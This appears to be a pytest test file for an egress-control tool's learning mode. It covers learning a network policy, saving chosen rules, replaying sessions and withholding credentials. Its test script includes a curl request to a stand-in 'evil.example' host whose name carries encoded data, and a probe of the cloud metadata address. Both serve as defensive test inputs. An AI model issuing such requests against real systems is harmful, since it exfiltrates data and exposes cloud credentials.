"""A learning run, the policy that is made of it, and its replay, as a user types them."""

from __future__ import annotations

import contextlib
import json
import re
from typing import TYPE_CHECKING

import pytest

from tests.rigs.cli.terminals import on_terminal
from tests.rigs.gateway.origins import Origin, Service, tls_for

if TYPE_CHECKING:
    from collections.abc import Callable

    import trustme

    from tests.rigs.sandbox.origin import GitAndWeb
    from tests.rigs.sandbox.projects import Project

pytestmark = [pytest.mark.outside, pytest.mark.by_turns]

HOSTILE = "mfzwizltoq2gk3tfmq7xk43uo.evil.example"
CLIENT = f"""
curl -sS --max-time 20 --cacert ca.pem https://origin.example/page &&
curl -sS --max-time 20 --cacert ca.pem https://second.example/other
curl -sS --max-time 5 https://{HOSTILE}/ 2>/dev/null
curl -sS --max-time 5 http://169.254.169.254/ 2>/dev/null
curl -sS --max-time 5 https://origin.example:8443/ 2>/dev/null
true
"""


@pytest.fixture
def unnamed(
    new_project: Callable[..., Project], origin: GitAndWeb, authority: trustme.CA
) -> Project:
    """A project whose policy allows nothing; the names would lead to the origin."""
    policy = origin.policy("origin.example", "second.example")
    made = new_project(re.sub(r"(?s)\[egress\].*?(?=\[upstream)", "# Mine.\n", policy))
    made.write("ca.pem", authority.cert_pem.bytes().decode())
    return made


def learn(project: Project, script: str) -> str:
    """Run a script with --unsafe-learn; its session."""
    done = project.shell(script, flags=("--unsafe-learn",))
    assert done.code == 0, done
    assert "LEARNING RUN" in done.err
    said = re.search(r"`keyhole learn ([0-9a-f]+)`", done.err)
    assert said, done.err
    assert "hello /pagehello /other" in done.out
    return said[1]


def test_a_policy_is_learnt_saved_used_and_replayed(unnamed: Project) -> None:
    """I3: without --learn nothing is open, before and after; what was not picked stays closed."""
    before = unnamed.shell(CLIENT)
    assert "hello" not in before.out
    session = learn(unnamed, CLIENT)
    events = [e for e in unnamed.events() if e["session"] == session]
    used = {(e["host"], e["reason"]) for e in events if e["kind"] == "connect"}
    assert ("origin.example", "learning") in used
    assert ("169.254.169.254", "literal-address") in used
    listed = json.loads(unnamed("learn", session, "--json").out)
    rows = {row["id"]: row for row in listed}
    assert rows.keys() == {
        "egress.allow origin.example",
        "egress.allow second.example",
        f"egress.allow {HOSTILE}",
        "egress.allow origin.example:8443",
    }
    assert rows[f"egress.allow {HOSTILE}"]["concern"] == "looks like data in a name"
    assert not any(row["preselected"] for row in listed)
    takes = ("--take", "egress.allow origin.example", "--take", "egress.allow second.example")
    saved = unnamed("learn", session, "--save", *takes, "--yes")
    assert saved.code == 0, saved
    text = (unnamed.directory / "keyhole.toml").read_text()
    assert '  "origin.example",  # seen once\n' in text
    assert "# Mine.\n" in text
    assert HOSTILE not in text
    again = unnamed("run", "--", "sh", "-c", CLIENT)
    assert again.code == 0, again
    assert "hello /pagehello /other" in again.out
    last = [e for e in unnamed.events() if e["session"]][-1]["session"]
    assert last != session
    assert unnamed("replay", "--session", last).code == 0
    unnamed.write("narrow.toml", text.replace('  "second.example",', "#"))
    narrower = unnamed("replay", "--policy", "narrow.toml", "--session", last)
    assert narrower.code == 1
    assert re.search(r"1x  second\.example  no-rule", narrower.out)
    asked = unnamed("replay", "--session", last, "--policy", "narrow.toml", "--json")
    assert [row["id"] for row in json.loads(asked.out)] == ["second.example"]


@pytest.mark.by_turns("root")
def test_it_works_where_there_is_no_policy_and_asks_first(unnamed: Project) -> None:
    (unnamed.directory / "keyhole.toml").unlink()
    refused = unnamed("run", "--learn", "--", "true")
    assert refused.code == 125
    assert "no terminal to ask on" in refused.err
    if unnamed.person.name == "root":  # a terminal is made for this process's own user
        words = [str(unnamed.person.program), "run", "--learn", "--", "echo", "ran"]
        question = "run the command so?"
        code, said = on_terminal(words, unnamed.env, unnamed.directory, [(question, "\r")])
        assert (code, "ran\r\n" in said) == (125, False)
        code, said = on_terminal(words, unnamed.env, unnamed.directory, [(question, "y\r")])
        assert (code, "ran\r\n" in said) == (0, True), said
    done = unnamed.shell("curl -sS --max-time 9 https://new.example/", flags=("--unsafe-learn",))
    assert "keyhole learn" in done.err
    piped = unnamed("learn", "--save")
    assert piped.code == 2
    assert "--all-known, or --take" in piped.err
    saved = unnamed("learn", "--save", "--take", "egress.allow new.example", "--yes")
    assert saved.code == 0, saved
    assert '"new.example"' in (unnamed.directory / "keyhole.toml").read_text()
    assert json.loads(unnamed("check", "--json").out)["trusted"] is True


def test_services_get_no_credential_unless_that_is_said(
    new_project: Callable[..., Project], authority: trustme.CA
) -> None:
    """I1: beside an open host a credential would give away what it reads."""
    key, service = "k3y-0123456789abcdefghijklm", Service()
    with contextlib.closing(Origin(service, tls_for(authority, "web.example"))) as origin:
        made = new_project(f"""
[upstream]
ca_file = "~/ca.pem"
connect = {{ "web.example:443" = "{origin.address}" }}
[services.web]
hosts  = ["web.example"]
allow  = ["GET /**"]
secret = "unsafe-env:WEB_KEY"
inject = {{ header = "X-Key", value = "{{secret}}" }}
""")
        (made.home / "ca.pem").write_bytes(authority.cert_pem.bytes())
        made.person.own(made.home / "ca.pem")
        for flags, given in (
            ((), True),
            (("--unsafe-learn",), False),
            (("--unsafe-learn", "--unsafe-learn-with-credentials"), True),
        ):
            fetch = "curl -sS --max-time 20 https://web.example/"
            done = made.shell(fetch, flags=flags, env={"WEB_KEY": key})
            assert done.code == 0, done
            assert (key.encode() in service.seen[-1].head) is given, flags
    said = [e["details"] for e in made.events() if e["reason"] == "learning"]
    assert said == [{"credentials": "false"}, {"credentials": "true"}]
    alone = made("run", "--unsafe-learn-with-credentials", "--", "true")
    assert alone.code == 125
